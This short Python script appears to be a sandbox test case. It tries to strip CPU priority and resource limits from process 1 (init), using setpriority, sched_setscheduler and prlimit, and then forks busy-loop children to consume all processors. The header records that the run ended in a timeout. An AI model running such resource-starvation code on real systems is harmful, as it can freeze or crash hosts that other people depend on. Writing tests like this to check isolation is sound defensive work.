# Takes CPU time and resources from process 1, so that it cannot end, and keeps both processors busy.
# ended: timeout
import os
import resource

for name, arguments in (
    ("setpriority", (os.PRIO_PROCESS, 1, 19)),
    ("setpriority", (os.PRIO_USER, os.getuid(), 19)),
    ("sched_setscheduler", (1, os.SCHED_IDLE, os.sched_param(0))),
):
    try:
        getattr(os, name)(*arguments)
        print("broke", name, flush=True)
    except PermissionError:
        pass
for name in ("RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_AS"):
    try:
        resource.prlimit(1, getattr(resource, name), (1, 1))
        print("broke", name, flush=True)
    except PermissionError:
        pass
for _ in range(6):
    if os.fork() == 0:
        break
while True:
    pass
